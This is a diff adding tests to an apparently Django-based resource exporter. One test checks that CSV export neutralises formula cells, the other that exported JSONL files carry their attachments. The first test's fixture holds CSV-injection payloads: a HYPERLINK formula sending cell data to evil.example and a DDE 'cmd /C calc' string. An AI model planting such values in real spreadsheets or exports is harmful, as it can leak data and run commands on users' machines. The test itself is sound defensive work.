@@ -348,3 +348,38 @@ def test_a_bad_file_fails_validation_before_any_file_is_stored(tmp_path, setting
     assert not EBookPage.objects.filter(external_id__in=["imp-1", "imp-2"]).exists()
     media = tmp_path / "media"
     assert not media.exists() or not [p for p in media.rglob("*") if p.is_file()]
+
+
+def test_export_csv_neutralises_formula_cells_and_imports_back_unchanged(tmp_path):
+    hostile = _record(
+        1,
+        title='=HYPERLINK("http://evil.example/?x="&A1,"คลิก")',
+        summary="@SUM(1+1)*cmd|' /C calc'!A0",
+        keywords=["+ท่อ", "-ลบ"],
+        authors=["=1+2"],
+    )
+    assert _run(str(_write_jsonl(tmp_path / "in.jsonl", [hostile])))[0] == 0
+    exported = tmp_path / "out.csv"
+    call_command("export_resources", "-o", str(exported), "--field", "F64-11", stderr=io.StringIO())
+    import csv
+
+    with exported.open(encoding="utf-8", newline="") as handle:
+        row = next(r for r in csv.DictReader(handle) if r["external_id"] == "imp-1")
+    for name in ("title", "summary", "keywords", "authors"):
+        assert row[name].startswith("'"), (name, row[name])
+    # The export still imports back as the same record.
+    code, out, _err = _run(str(exported))
+    assert code == 0 and "0 created, 0 updated" in out, out
+    assert ResearchPage.objects.get(external_id="imp-1").title == hostile["title"]
+
+
+def test_export_to_a_file_copies_attached_files_so_it_imports_again(tmp_path):
+    (tmp_path / "book.pdf").write_bytes(demo_pdf_bytes("Book"))
+    _run(str(_write_jsonl(tmp_path / "a.jsonl", [_record(1, type="ebook", file="book.pdf")])))
+    exported = tmp_path / "out" / "all.jsonl"
+    exported.parent.mkdir()
+    call_command("export_resources", "-o", str(exported), "--type", "ebook", stderr=io.StringIO())
+    (record,) = [json.loads(line) for line in exported.read_text().splitlines()]
+    assert record["file"].startswith("all-files/") and (exported.parent / record["file"]).is_file()
+    code, out, _err = _run(str(exported))
+    assert code == 0 and "1 unchanged" in out, out
